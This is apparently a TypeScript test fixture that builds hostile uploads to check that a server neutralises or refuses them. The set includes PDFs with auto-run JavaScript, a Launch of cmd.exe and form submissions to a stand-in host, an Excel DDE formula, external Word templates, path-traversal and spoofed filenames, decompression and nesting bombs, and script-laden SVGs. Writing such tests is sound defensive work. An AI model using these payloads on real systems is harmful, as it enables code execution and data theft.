import { wordsDocx, wordsPdf } from '../apps/server/src/testing/words'
import { rowsOf, sheetOf, workbookOf } from '../apps/server/src/testing/workbook'
import { zipOf } from '../apps/server/src/testing/zip'

/** A file that someone might send to do harm. `kept`: it is taken, and then has to be inert. */
export type HostileFile = { about: string; name: string; type: string; bytes: Buffer; kept: boolean }

const PDF = 'application/pdf'
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
/** What every one of them would do if it ran; outside is a host that no page may ask. */
const HARM = 'window.pwned=1;alert(1);fetch("https://outside.example/pwned")'
const PAGE = `<!doctype html><script>${HARM}</script><img src=x onerror="${HARM.replaceAll('"', "'")}">`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${HARM.replaceAll('"', "'")}"><script>${HARM}</script><circle cx="20" cy="20" r="16" fill="#6B2D5C"/></svg>`

/** A PDF of these objects, the first of which is its catalog. */
const pdfOf = (objects: readonly string[], before = '') =>
  Buffer.from(
    `%PDF-1.7\n${before}${objects.map((object, at) => `${at + 1} 0 obj${object}endobj\n`).join('')}trailer<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF\n`,
    'latin1',
  )
const FONT = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
const words = (text: string) => `<</Length ${text.length}>>stream\n${text}\nendstream`
const SAID = words('BT /F1 12 Tf 20 100 Td (Plan) Tj ET')

/** A page whose catalog or page has something more, which is what its object 6 may say. */
const withPart = ({ catalog = '', page = '', part = '<<>>', box = '0 0 300 200' }) =>
  pdfOf([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Resources<</Font<</F1 4 0 R>>>>/Contents 5 0 R${page}>>`,
    FONT,
    SAID,
    part,
  ])

const script = `<</S/JavaScript/JS(app.alert\\(1\\);${HARM.replaceAll(/[()]/g, '\\$&')})>>`
const link = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A${action}>>]`

const kept = (about: string, bytes: Buffer, { name = 'plan.pdf', type = PDF } = {}): HostileFile => ({
  about,
  name,
  type,
  bytes,
  kept: true,
})
const refused = (about: string, name: string, type: string, bytes: Buffer | string): HostileFile => ({
  about,
  name,
  type,
  bytes: Buffer.from(bytes as Buffer),
  kept: false,
})

const PDFS = [
  kept('a script that runs when it opens', withPart({ catalog: '/OpenAction 6 0 R', part: script })),
  kept('a script of a page', withPart({ page: `/AA<</O ${script}>>` })),
  kept('scripts by name', withPart({ catalog: `/Names<</JavaScript<</Names[(a) ${script}]>>>>` })),
  kept(
    'an address that it opens',
    withPart({ catalog: '/OpenAction<</S/URI/URI(https://outside.example/pwned)>>' }),
  ),
  kept('a program that it starts', withPart({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' })),
  kept(
    'a form that it sends',
    withPart({ catalog: '/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://outside.example/pwned)>>>>' }),
  ),
  kept(
    'another file that it opens',
    withPart({ catalog: '/OpenAction<</S/GoToR/F(//outside.example/a.pdf)/D[0/Fit]>>' }),
  ),
  kept(
    'a link to a script',
    withPart({ page: link(`<</S/URI/URI(javascript:${HARM.replaceAll(/[()]/g, '\\$&')})>>`) }),
  ),
  kept(
    'a form of its own',
    withPart({ catalog: `/AcroForm<</XFA(<script>${HARM.replaceAll(/[()]/g, '\\$&')}</script>)/Fields[]>>` }),
  ),
  kept(
    'a file inside',
    withPart({
      catalog: '/Names<</EmbeddedFiles<</Names[(a.html) 6 0 R]>>>>',
      part: '<</Type/Filespec/F(a.html)/EF<</F 5 0 R>>>>',
    }),
  ),
  kept(
    'a font whose matrix is a script',
    pdfOf([
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Resources<</Font<</F1 4 0 R>>>>/Contents 5 0 R>>',
      `<</Type/Font/Subtype/Type1/BaseFont/Odd/FontMatrix[0.1 0 0 0.1 0 (1\\); window.pwned=1; alert\\(1\\);//)]>>`,
      SAID,
    ]),
  ),
  kept('a page as wide as a city', withPart({ box: '0 0 14400000 14400000' })),
  kept('a page without a height', withPart({ box: '0 0 300 0' })),
  kept(
    'a hundred million pages',
    pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 100000000>>']),
  ),
  kept(
    'pages that hold themselves',
    pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>']),
  ),
  kept('arrays without end', withPart({ catalog: `/Deep ${'['.repeat(50_000)}${']'.repeat(50_000)}` })),
  kept(
    'a stream that lies about its length',
    pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Length 99999999999>>stream\nx']),
  ),
  kept('a page of the web behind its first line', Buffer.from(`%PDF-1.7\n${PAGE}\n%%EOF`)),
  kept('a page of the web in a comment', withPart({ catalog: `%${PAGE}\n` })),
  kept('nothing but its first line', Buffer.from('%PDF-1.7\n')),
  kept('a name that is a page', wordsPdf(['Plan']), { name: `<img src=x onerror="window.pwned=1">.pdf` }),
  kept('a name that leads elsewhere', wordsPdf(['Plan']), { name: '../../../etc/passwd.pdf' }),
  kept('a name that reads backward', wordsPdf(['Plan']), { name: 'plan\u202efdp.exe.pdf' }),
  kept('words that are a page', wordsPdf([PAGE])),
]

const relation = (type: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://outside.example/pwned" TargetMode="External"/></Relationships>`

const OFFICE = [
  kept('a Word file with words that are a page', wordsDocx([PAGE.replaceAll('<', '&lt;')]), {
    name: 'plan.docx',
    type: DOCX,
  }),
  kept(
    'a Word file with a template from outside',
    wordsDocx(['Plan'], [{ name: 'word/_rels/settings.xml.rels', content: relation('attachedTemplate') }]),
    { name: 'plan.docx', type: DOCX },
  ),
  kept(
    'a Word file with macros',
    wordsDocx(['Plan'], [{ name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' }]),
    { name: 'plan.docx', type: DOCX },
  ),
  kept(
    'a workbook with a formula that starts a program',
    workbookOf(sheetOf(rowsOf([['=cmd|"/c calc"!A1', '=HYPERLINK("https://outside.example/pwned")']]))),
    { name: 'count.xlsx', type: XLSX },
  ),
  kept('a workbook with words that are a page', workbookOf(sheetOf(rowsOf([[PAGE]]))), {
    name: 'count.xlsx',
    type: XLSX,
  }),
  kept(
    'a video that is a page',
    Buffer.concat([Buffer.from('\0\0\0\x18ftypisom\0\0\0\0isommp42', 'latin1'), Buffer.from(PAGE)]),
    { name: 'film.mp4', type: 'video/mp4' },
  ),
]

const megabytes = (count: number) => Buffer.alloc(count * 1024 * 1024, 0x20)

const REFUSED = [
  refused('a page called PDF', 'plan.pdf', PDF, PAGE),
  refused('a drawing called PDF', 'plan.pdf', PDF, SVG),
  refused('a script called PDF', 'plan.pdf', PDF, HARM),
  refused('a program called PDF', 'plan.pdf', PDF, 'MZ\x90\0\x03'),
  refused('a PDF sent as a page', 'plan.pdf', 'text/html', wordsPdf(['Plan'])),
  refused('a picture called PDF', 'plan.pdf', PDF, 'GIF89a/*\x01\0=0;*/alert(1)'),
  refused('a page', 'plan.html', 'text/html', PAGE),
  refused(
    'a page of XML',
    'plan.xhtml',
    'application/xhtml+xml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><script>${HARM}</script></html>`,
  ),
  refused('a drawing', 'plan.svg', 'image/svg+xml', SVG),
  refused('a program behind two extensions', 'plan.pdf.exe', PDF, 'MZ\x90\0\x03'),
  refused('a name without an extension', 'plan', PDF, wordsPdf(['Plan'])),
  refused('a page called Word', 'plan.docx', DOCX, PAGE),
  refused('an archive called Word', 'plan.docx', DOCX, zipOf([{ name: 'a.html', content: PAGE }])),
  refused(
    'a Word file that unpacks to a hundred megabytes',
    'plan.docx',
    DOCX,
    wordsDocx(['Plan'], [{ name: 'word/media/a.bin', content: megabytes(110) }]),
  ),
  refused(
    'a Word file of twelve thousand parts',
    'plan.docx',
    DOCX,
    wordsDocx(
      ['Plan'],
      Array.from({ length: 12_000 }, (_, at) => ({ name: `word/${at}`, content: '' })),
    ),
  ),
  refused(
    'an archive whose names lead out of it',
    'plan.docx',
    DOCX,
    wordsDocx(['Plan'], [{ name: '../../outside', content: 'x' }]),
  ),
  refused('a page called video', 'film.mp4', 'video/mp4', PAGE),
  refused('nothing', 'plan.pdf', PDF, ''),
  refused(
    'a byte more than ten megabytes',
    'plan.pdf',
    PDF,
    Buffer.concat([Buffer.from('%PDF-1.7\n'), megabytes(10)]),
  ),
]

export const HOSTILE_FILES: readonly HostileFile[] = [...PDFS, ...OFFICE, ...REFUSED]

/** Drawings sent as a logo: they are kept as their picture or refused. */
export const HOSTILE_DRAWINGS: readonly { about: string; text: string }[] = [
  { about: 'scripts', text: SVG },
  {
    about: 'a page inside',
    text: `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><script>${HARM}</script></body></foreignObject></svg>`,
  },
  {
    about: 'a picture from outside',
    text: '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><image href="https://outside.example/pwned" width="40" height="40"/></svg>',
  },
  {
    about: 'entities that grow',
    text: '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><text>&b;</text></svg>',
  },
  {
    about: 'an animation that links',
    text: `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><a href="javascript:alert(1)"><animate attributeName="href" to="javascript:alert(2)"/><rect width="40" height="40"/></a></svg>`,
  },
]
